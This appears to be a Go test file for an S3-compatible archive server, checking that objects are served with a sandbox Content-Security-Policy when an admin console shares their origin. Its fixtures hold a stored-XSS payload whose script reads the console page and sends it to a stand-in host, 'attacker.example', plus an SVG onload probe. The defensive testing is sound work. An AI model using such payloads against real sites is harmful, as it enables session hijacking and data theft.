package s3api_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/rs/zerolog"

	"github.com/wharf-s3/wharf/archiveview"
	"github.com/wharf-s3/wharf/archiveview/catalog"
	"github.com/wharf-s3/wharf/auth"
	"github.com/wharf-s3/wharf/s3api"
)

// TestObjectsSandboxedBesideConsole: with the console on the S3 listener
// (Config.Console), its session cookie lives in the objects' origin, so an
// archived .html or .svg opened from its S3 URL would run its script
// there and could read the console with the visitor's session. Every
// object response then carries Content-Security-Policy: sandbox (the
// document gets an opaque origin and runs no script); without a console
// there is nothing in the origin to protect and objects are served as S3
// serves them.
func TestObjectsSandboxedBesideConsole(t *testing.T) {
	files := map[string][]byte{
		"evil.html": []byte(`<html><body><script>fetch("/-/console/").then(r => r.text()).then(t => fetch("https://attacker.example/?" + encodeURIComponent(t)))</script></body></html>`),
		"evil.svg":  []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>`),
		"data.bin":  []byte("bytes"),
	}
	a, _ := openArchive(t, files, fixtureOpts{})
	v, err := auth.New(auth.Config{Anonymous: true})
	if err != nil {
		t.Fatal(err)
	}
	for _, console := range []bool{true, false} {
		cfg := s3api.Config{Catalog: catalog.NewStatic(map[string]*archiveview.Archive{testBucket: a}), Verifier: v, Logger: zerolog.Nop()}
		if console {
			cfg.Console = func(api http.Handler) http.Handler {
				return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, "the console") })
			}
		}
		srv := httptest.NewServer(s3api.New(cfg))
		for _, tc := range []struct{ method, path, hdr string }{
			{"GET", "/bkt/evil.html", ""},
			{"GET", "/bkt/evil.svg", ""},
			{"HEAD", "/bkt/evil.html", ""},
			{"GET", "/bkt/evil.html", "bytes=0-9"},
			{"GET", "/bkt/data.bin", ""},
		} {
			req, _ := http.NewRequest(tc.method, srv.URL+tc.path, nil)
			if tc.hdr != "" {
				req.Header.Set("Range", tc.hdr)
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode/100 != 2 {
				t.Fatalf("%s %s: %s", tc.method, tc.path, resp.Status)
			}
			csp := resp.Header.Get("Content-Security-Policy")
			switch {
			case console && csp != "sandbox":
				t.Errorf("console on: %s %s (%s): Content-Security-Policy %q, want sandbox", tc.method, tc.path, resp.Header.Get("Content-Type"), csp)
			case !console && csp != "":
				t.Errorf("no console: %s %s: Content-Security-Policy %q, want none", tc.method, tc.path, csp)
			}
		}
		srv.Close()
	}
}
